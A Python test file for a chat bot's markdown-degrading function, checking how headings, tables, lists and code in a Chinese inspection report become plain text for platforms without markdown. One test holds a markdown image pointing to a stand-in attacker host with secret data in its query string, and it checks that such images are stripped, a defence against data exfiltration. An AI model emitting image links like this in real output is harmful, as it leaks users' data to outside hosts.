"""Markdown becomes what a platform shows; what is no markdown stays as it is."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.adapter import FULL_MARKDOWN
from bot.markdown import degrade

REPORT = """# 巡检报告

**结论**：共发现 *两处* 问题，见[图1](https://k.example/1)。

| 项目 | 结果 |
| --- | :-: |
| 漏水 | **有** |
| 裂缝 | 无 |

- 更换 `阀门 A*1`
- 复查

> 注意安全

```python
print("**不变**")
```
---
"""

PLAIN = """【巡检报告】

结论：共发现 *两处* 问题，见图1（https://k.example/1）。

漏水：有
裂缝：无

• 更换 阀门 A*1
• 复查

注意安全

print("**不变**")
————
"""


def test_a_report_as_plain_text() -> None:
    assert degrade(REPORT, frozenset()) == PLAIN


def test_what_the_platform_shows_stays_as_it_was_written() -> None:
    assert degrade(REPORT, FULL_MARKDOWN) == REPORT


def test_a_heading_is_bold_where_there_are_no_headings() -> None:
    assert degrade("## **一、** 概况 ##", {"bold"}) == "**一、 概况**"
    assert degrade("## 二、详情", frozenset()) == "二、详情"


def test_a_wide_table_names_its_columns() -> None:
    table = "名称|数量|备注\n-|-|-\n螺丝|3|\n螺母|4|缺货\n\n完"
    assert degrade(table, frozenset()) == "名称：螺丝；数量：3\n名称：螺母；数量：4；备注：缺货\n\n完"


@pytest.mark.parametrize(
    "text",
    [
        "1. 2024-11-24 12:00\n#1 号楼\n订单#3",
        "3*4*5=60，2 ** 3，a_b_c，__init__",
        "未闭合的 ```python 和 `反引号",
        "价格 | 数量\n没有分隔行",
        "  缩进\t制表\n\n\n空行",
        "[注1] (说明)",
    ],
)
def test_what_was_read_from_a_picture_is_not_touched(text: str) -> None:
    assert degrade(text, frozenset()) == text


def test_a_picture_that_a_model_names_by_address_is_not_passed_on() -> None:
    for kept in (frozenset[str](), FULL_MARKDOWN):
        assert degrade("看![图](https://evil.example/?q=secret)", kept) == "看[图]"


@given(st.text(alphabet="#*`|-[]()!> \nab一", max_size=300))
def test_text_without_closed_marks_loses_no_letter(text: str) -> None:
    letters = "".join(filter(str.isalpha, text))
    assert "".join(filter(str.isalpha, degrade(text.replace("(", ""), frozenset()))) == letters
